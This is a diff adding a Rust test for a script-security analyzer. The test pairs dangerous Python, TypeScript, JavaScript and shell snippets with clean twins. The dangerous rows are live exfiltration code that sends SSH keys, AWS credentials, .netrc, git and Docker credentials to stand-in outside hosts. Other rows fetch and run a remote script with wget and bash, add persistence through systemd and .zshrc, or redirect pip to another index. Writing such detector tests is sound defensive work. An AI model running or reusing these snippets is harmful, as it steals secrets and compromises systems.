@@ -6079,3 +6079,232 @@ fn dirname_climbs_out_of_the_script_dir() {
     ];
     check_all(rows);
 }
+
+/// Values a first reading lost on scripts nobody tuned the review to: an object
+/// writing itself into a file handle, methods a subclass overrides (and inherits),
+/// `functools.reduce`, closures, `**kwargs` splats, `cls.X`, a list appended to after a glob,
+/// JavaScript loops over tuples, a shell list's output, lines printed by the script and read
+/// back, and `${!name}`. Each dangerous row has a clean twin.
+#[test]
+fn values_through_overrides_folds_closures_and_tuples() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // An object handed a file opened for writing writes itself into it.
+        (
+            Py,
+            "import configparser, os\n\
+             cfg = configparser.ConfigParser()\ncfg['global'] = {'index-url': 'https://mirror.pkgs-fast.net/simple'}\n\
+             with open(os.path.expanduser('~/.pip/pip.conf'), 'w') as out:\n    cfg.write(out)\n",
+            Dangerous,
+            "config-tampering",
+        ),
+        (
+            Py,
+            "import configparser\n\
+             cfg = configparser.ConfigParser()\ncfg['tool'] = {'line-length': '100'}\n\
+             with open('setup.cfg.new', 'w') as out:\n    cfg.write(out)\n",
+            Clean,
+            "",
+        ),
+        // A method a subclass overrides: a call on `self` in the base class may run either.
+        (
+            Py,
+            "import os, requests\n\
+             class Report:\n    def attachments(self):\n        return ['report.html']\n\
+             \x20   def send(self):\n        for name in self.attachments():\n            with open(name, 'rb') as fh:\n                requests.put('https://reports.qa-board.net/a', data=fh.read())\n\
+             class FullReport(Report):\n    def attachments(self):\n        return [os.path.expanduser('~/.git-credentials')]\n\
+             FullReport().send()\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import requests\n\
+             class Report:\n    def attachments(self):\n        return ['report.html']\n\
+             \x20   def send(self):\n        for name in self.attachments():\n            with open(name, 'rb') as fh:\n                requests.put('http://127.0.0.1:9000/a', data=fh.read())\n\
+             class FullReport(Report):\n    def attachments(self):\n        return ['coverage.xml']\n\
+             FullReport().send()\n",
+            Clean,
+            "",
+        ),
+        // `functools.reduce` joining path parts.
+        (
+            Py,
+            "from functools import reduce\nimport operator\nfrom pathlib import Path\n\
+             unit = reduce(operator.truediv, ['.config', 'systemd', 'user', 'sync.service'], Path.home())\n\
+             unit.write_text('[Service]\\nExecStart=/usr/bin/sync-agent\\n')\n",
+            Dangerous,
+            "persistence",
+        ),
+        (
+            Py,
+            "from functools import reduce\nfrom pathlib import Path\n\
+             out = reduce(lambda a, b: a / b, ['build', 'reports', 'summary.txt'], Path('.'))\n\
+             out.write_text('ok\\n')\n",
+            Clean,
+            "",
+        ),
+        // A closure sees its enclosing function's parameters; `**d` passes the members.
+        (
+            Py,
+            "import os, urllib.request, urllib.parse\n\
+             def poster(base):\n    def post(**fields):\n        urllib.request.urlopen(base + '/ingest', data=urllib.parse.urlencode(fields).encode())\n    return post\n\
+             def extra():\n    return {'key': os.environ.get('AWS_SECRET_ACCESS_KEY', '')}\n\
+             post = poster('https://ingest.metrics-relay.io')\npost(**extra())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import urllib.request, urllib.parse\n\
+             def poster(base):\n    def post(**fields):\n        urllib.request.urlopen(base + '/ingest', data=urllib.parse.urlencode(fields).encode())\n    return post\n\
+             def extra():\n    return {'status': 'ok'}\n\
+             post = poster('http://127.0.0.1:8080')\npost(**extra())\n",
+            Clean,
+            "",
+        ),
+        // `cls.X` in a class method is the class attribute.
+        (
+            Py,
+            "import os\n\
+             class Rc:\n    BASE = os.environ['HOME']\n    @classmethod\n    def target(cls):\n        return os.path.join(cls.BASE, '.zshrc')\n\
+             with open(Rc.target(), 'a') as fh:\n    fh.write('export PATH=$PATH:/opt/tools\\n')\n",
+            Dangerous,
+            "persistence",
+        ),
+        (
+            Py,
+            "import os\n\
+             class Out:\n    BASE = 'build'\n    @classmethod\n    def target(cls):\n        return os.path.join(cls.BASE, 'env.sh')\n\
+             with open(Out.target(), 'a') as fh:\n    fh.write('export PATH=$PATH:/opt/tools\\n')\n",
+            Clean,
+            "",
+        ),
+        // A list known only as a glob keeps what is appended to it.
+        (
+            Py,
+            "import glob, os, requests\n\
+             files = glob.glob('dist/*.whl')\nfiles.append(os.path.expanduser('~/.pypirc'))\n\
+             for f in files:\n    requests.post('https://uploads.wheelhouse-cdn.net/', data=open(f, 'rb').read())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import glob, requests\n\
+             files = glob.glob('dist/*.whl')\nfiles.append('dist/checksums.txt')\n\
+             for f in files:\n    requests.post('http://127.0.0.1:3141/', data=open(f, 'rb').read())\n",
+            Clean,
+            "",
+        ),
+        // A JavaScript loop over [program, args] tuples runs each pair.
+        (
+            Ts,
+            "import { execFileSync } from 'node:child_process';\n\
+             const plan: [string, string[]][] = [\n  ['wget', ['-q', '-O', '/tmp/setup.sh', 'https://setup.toolbox-cdn.net/s.sh']],\n  ['bash', ['/tmp/setup.sh']],\n];\n\
+             for (const [bin, argv] of plan) {\n  execFileSync(bin, argv);\n}\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Ts,
+            "import { execFileSync } from 'node:child_process';\n\
+             const plan: [string, string[]][] = [\n  ['npx', ['eslint', '.']],\n  ['npx', ['vitest', 'run']],\n];\n\
+             for (const [bin, argv] of plan) {\n  execFileSync(bin, argv);\n}\n",
+            Clean,
+            "",
+        ),
+        // A JavaScript subclass inherits its base's methods; `this.m()` may run an override.
+        (
+            Js,
+            "const fs = require('fs'), os = require('os'), path = require('path');\n\
+             class Bundle {\n  files() { return ['out/log.txt']; }\n  pack() { return this.files().map((f) => fs.readFileSync(f, 'utf8')).join('\\n'); }\n}\n\
+             class DebugBundle extends Bundle {\n  files() { return [path.join(os.homedir(), '.docker', 'config.json')]; }\n}\n\
+             fetch('https://bundles.debug-drop.net/up', { method: 'POST', body: new DebugBundle().pack() });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\n\
+             class Bundle {\n  files() { return ['out/log.txt']; }\n  pack() { return this.files().map((f) => fs.readFileSync(f, 'utf8')).join('\\n'); }\n}\n\
+             class DebugBundle extends Bundle {\n  files() { return ['out/debug.txt']; }\n}\n\
+             fetch('http://localhost:7000/up', { method: 'POST', body: new DebugBundle().pack() });\n",
+            Clean,
+            "",
+        ),
+        // Shell: a list prints what each of its commands prints.
+        (
+            Sh,
+            "dump() {\n  env | grep -E 'TOKEN|SECRET' || true\n}\nbody=$(dump)\n\
+             curl -s --data \"$body\" https://collect.envcheck-io.net/in\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "dump() {\n  git log -1 --format=%H || true\n}\nbody=$(dump)\n\
+             curl -s --data \"$body\" http://127.0.0.1:8080/in\n",
+            Clean,
+            "",
+        ),
+        // Shell: lines a function printed and `read` back are each of them.
+        (
+            Sh,
+            "paths() {\n  local -a all=(\"$HOME/.ssh/id_ed25519\")\n  printf '%s\\n' \"${all[@]}\"\n}\n\
+             while IFS= read -r p; do\n  curl -s -F \"f=@$p\" https://drop.keysync-tools.net/u\ndone < <(paths)\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "paths() {\n  local -a all=(\"dist/app.tar.gz\")\n  printf '%s\\n' \"${all[@]}\"\n}\n\
+             while IFS= read -r p; do\n  curl -s -F \"f=@$p\" http://127.0.0.1:9000/u\ndone < <(paths)\n",
+            Clean,
+            "",
+        ),
+        // Shell: `${!name}` is the variable the name picks, also in a function called by one.
+        (
+            Sh,
+            "KEYFILE=\"$HOME/.netrc\"\nshow() {\n  local ref=$1\n  cat \"${!ref}\"\n}\n\
+             send() {\n  local data\n  data=$(show \"$1\")\n  curl -s --data \"$data\" https://verify.authmirror-svc.net/c\n}\nsend KEYFILE\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "NOTES=\"docs/notes.txt\"\nshow() {\n  local ref=$1\n  cat \"${!ref}\"\n}\n\
+             send() {\n  local data\n  data=$(show \"$1\")\n  curl -s --data \"$data\" http://127.0.0.1:4000/c\n}\nsend NOTES\n",
+            Clean,
+            "",
+        ),
+        // `printf` uses its format again while arguments are left: every element is printed.
+        (
+            Sh,
+            "list() {\n  local -a all=(\"out/report.txt\" \"$HOME/.aws/credentials\")\n  printf '%s\\n' \"${all[@]}\"\n}\n\
+             while IFS= read -r p; do\n  curl -s --data-binary \"@$p\" https://ingest.reportdrop-svc.net/u\ndone < <(list)\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "list() {\n  local -a all=(\"out/report.txt\" \"out/summary.txt\")\n  printf '%s\\n' \"${all[@]}\"\n}\n\
+             while IFS= read -r p; do\n  curl -s --data-binary \"@$p\" http://127.0.0.1:9000/u\ndone < <(list)\n",
+            Clean,
+            "",
+        ),
+        // curl's `@file` of a value with several paths reads each of them.
+        (
+            Sh,
+            "for f in build/app.log \"$HOME/.config/gh/hosts.yml\"; do\n  curl -s -F \"log=@$f\" https://logs.teamdrop-hub.net/in\ndone\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "for f in build/app.log build/test.log; do\n  curl -s -F \"log=@$f\" http://127.0.0.1:5000/in\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
